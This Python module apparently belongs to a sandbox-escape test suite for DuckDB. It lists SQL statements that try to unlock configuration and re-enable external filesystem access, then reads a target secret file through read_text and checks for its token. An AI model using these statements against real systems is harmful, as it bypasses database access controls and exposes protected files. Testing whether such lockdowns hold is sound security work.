"""Undo the settings that the connection came with, and read the secret.

origin: SET enable_external_access, the documented switch
why: a lock that SQL can open is no lock
control: succeeds
grants: data
data: input
"""

KEYS = (
    "SET lock_configuration = false",
    "RESET lock_configuration",
    "SET GLOBAL enable_external_access = true",
    "RESET enable_external_access",
    "PRAGMA enable_external_access = true",
    "SET allowed_directories = ['/']",
    "SET disabled_filesystems = ''",
    "SET VARIABLE enable_external_access = true",
)


def attack(target):
    import duckdb

    answers = {key: ask(duckdb, key)[1] for key in KEYS}
    for database in (duckdb, duckdb.cursor(), duckdb.default_connection().cursor(), duckdb.connect(":default:")):
        rows, _ = ask(database, f"SELECT content FROM read_text('{target['secret']}')")
        if holds_token(target, repr(rows)):
            return escaped("the configuration was unlocked")
    return nothing(answers[KEYS[0]] or "the file was read without a key")
